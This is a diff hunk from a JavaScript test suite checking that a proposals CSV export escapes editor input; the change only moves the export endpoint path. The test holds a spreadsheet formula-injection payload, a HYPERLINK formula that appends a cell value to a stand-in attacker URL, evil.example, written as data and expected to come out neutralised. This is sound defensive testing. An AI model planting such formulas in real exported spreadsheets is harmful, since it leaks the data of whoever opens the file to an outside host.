@@ -316,7 +316,7 @@ describe('what editors type comes out inert', () => {
 
   it('in the proposals CSV: a note starting with a line break and a formula stays text', async () => {
     await createProposal({ edition: edition.documentId, title: 'Une proposition', reviewerNotes: '\n=HYPERLINK("https://evil.example?"&A1;"x")' });
-    const res = await api().get(`/admin/bluehats/editions/${edition.documentId}/proposals.csv`).set('Authorization', `Bearer ${token}`);
+    const res = await api().get(`/bluehats/editions/${edition.documentId}/proposals.csv`).set('Authorization', `Bearer ${token}`);
     expect(res.status).toBe(200);
     expect(res.text).toContain(`"'\n=HYPERLINK(""https://evil.example?""&A1;""x"")"`);
   });
